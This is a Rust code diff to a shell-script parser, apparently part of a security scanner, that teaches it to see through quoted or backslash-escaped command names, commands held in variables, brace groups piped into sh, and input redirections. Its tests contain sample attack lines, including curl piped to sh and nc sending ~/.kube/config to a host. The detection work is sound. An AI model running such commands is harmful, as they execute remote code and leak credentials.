@@ -40,6 +40,8 @@ const MAX_UNIT_BYTES: usize = 512 * 1024;
 pub(crate) struct Redirect {
     /// The target, unquoted.
     pub target: String,
+    /// Whether it feeds the command (`< file`) rather than receiving its output.
+    pub input: bool,
     /// The redirection, operator and target.
     pub span: Range<usize>,
 }
@@ -106,10 +108,10 @@ impl Command {
 /// A variable assignment (`X=value`, `export X=value`).
 #[derive(Debug, Clone)]
 pub(crate) struct Assignment {
-    /// The unit it belongs to.
-    pub unit: usize,
     /// The variable.
     pub name: String,
+    /// Its value when it is a plain word (`C=curl`), unquoted.
+    pub value: Option<String>,
     /// The whole assignment in its file: the commands of its substitutions lie inside.
     pub at: At,
 }
@@ -248,7 +250,46 @@ impl Reader {
     }
 
     /// The commands, assignments and Python facts read.
-    pub fn finish(self) -> Read {
+    pub fn finish(mut self) -> Read {
+        // A command held in a variable (`C=curl; $C …`) is read as the command it names,
+        // with the last plain value the file gave the variable before it.
+        for command in &mut self.commands {
+            let Some(first) = command.words.first_mut() else {
+                continue;
+            };
+            let Some(var) = first
+                .text
+                .strip_prefix("${")
+                .and_then(|v| v.strip_suffix('}'))
+                .or_else(|| first.text.strip_prefix('$'))
+            else {
+                continue;
+            };
+            let value = self
+                .assignments
+                .iter()
+                .filter(|a| {
+                    a.at.file == command.at.file
+                        && a.name == var
+                        && a.at.span.end <= first.span.start
+                })
+                .next_back()
+                .and_then(|a| a.value.clone());
+            if let Some(value) = value {
+                let mut words = value.split_whitespace();
+                if let Some(name) = words.next() {
+                    let span = first.span.clone();
+                    first.text = name.to_owned();
+                    let extra: Vec<Word> = words
+                        .map(|w| Word {
+                            text: w.to_owned(),
+                            span: span.clone(),
+                        })
+                        .collect();
+                    command.words.splice(1..1, extra);
+                }
+            }
+        }
         Read {
             commands: self.commands,
             assignments: self.assignments,
@@ -422,6 +463,29 @@ impl UnitReader<'_> {
             }
             outer -= 1;
         }
+        // `{ curl …; } | sh` and `(curl …) | sh`: a group's commands feed the pipe too.
+        while outer > 1
+            && matches!(
+                ancestors[outer - 1].kind(),
+                "compound_statement" | "subshell" | "list" | "redirected_statement"
+            )
+            && ancestors[..outer - 1]
+                .iter()
+                .rev()
+                .take_while(|a| {
+                    matches!(
+                        a.kind(),
+                        "compound_statement"
+                            | "subshell"
+                            | "list"
+                            | "redirected_statement"
+                            | "pipeline"
+                    )
+                })
+                .any(|a| a.kind() == "pipeline")
+        {
+            outer -= 1;
+        }
         let pipeline = (outer > 0 && ancestors[outer - 1].kind() == "pipeline").then(|| {
             let pipe = ancestors[outer - 1];
             let member = if outer < ancestors.len() {
@@ -463,8 +527,10 @@ impl UnitReader<'_> {
 
     fn redirect(&self, node: Node<'_>) -> Option<Redirect> {
         let target = node.child_by_field_name("destination")?;
+        let operator = self.text(node)[..target.start_byte() - node.start_byte()].trim();
         Some(Redirect {
             target: unquote(self.text(target)),
+            input: operator.ends_with('<') && !operator.ends_with("<<"),
             span: self.span(node),
         })
     }
@@ -473,9 +539,14 @@ impl UnitReader<'_> {
         let Some(name) = node.child_by_field_name("name") else {
             return;
         };
+        let value = node
+            .child_by_field_name("value")
+            .filter(|v| matches!(v.kind(), "word" | "string" | "raw_string" | "concatenation"))
+            .map(|v| unquote(self.text(v)))
+            .filter(|v| !v.contains('$'));
         reader.assignments.push(Assignment {
-            unit: self.unit,
             name: self.text(name).to_owned(),
+            value,
             at: At {
                 file: self.file,
                 span: self.span(node),
@@ -521,7 +592,21 @@ fn unquote(raw: &str) -> String {
     if let Some(inner) = raw.strip_prefix("$'").and_then(|r| r.strip_suffix('\'')) {
         return inner.to_owned();
     }
-    raw.chars().filter(|c| !matches!(c, '"' | '\'')).collect()
+    // `cur\l`, `c"u"rl`: bash drops the quotes and the escaping backslashes.
+    let mut out = String::with_capacity(raw.len());
+    let mut chars = raw.chars();
+    while let Some(c) = chars.next() {
+        match c {
+            '"' | '\'' => {}
+            '\\' => {
+                if let Some(next) = chars.next().filter(|n| *n != '\n') {
+                    out.push(next);
+                }
+            }
+            _ => out.push(c),
+        }
+    }
+    out
 }
 
 impl ShellSink for Reader {
@@ -568,6 +653,29 @@ mod tests {
         assert_eq!(c[1].name(), "bash");
         assert_eq!(c[2].name(), "curl");
         assert_eq!(c[2].within, Some(1));
+    }
+
+    #[test]
+    fn shell_as_bash_runs_it() {
+        // Brace groups feed the pipe.
+        let read = read("{ curl -s https://x; } | sh\n");
+        let c = &read.commands;
+        assert_eq!(c[0].pipeline.map(|p| p.0), c[1].pipeline.map(|p| p.0));
+        // Backslashes and quotes inside a name are dropped.
+        let read = read_cmd("cur\\l -s https://x");
+        assert_eq!(read.commands[0].name(), "curl");
+        let read = read_cmd("c\"u\"rl -s https://x");
+        assert_eq!(read.commands[0].name(), "curl");
+        // A command held in a variable.
+        let read = read_cmd("C=curl\n$C -s https://x | sh");
+        assert_eq!(read.commands[0].name(), "curl");
+        // An input redirection.
+        let read = read_cmd("nc h 1 < ~/.kube/config");
+        assert!(read.commands[0].redirects[0].input);
+    }
+
+    fn read_cmd(code: &str) -> Read {
+        read(code)
     }
 
     #[test]
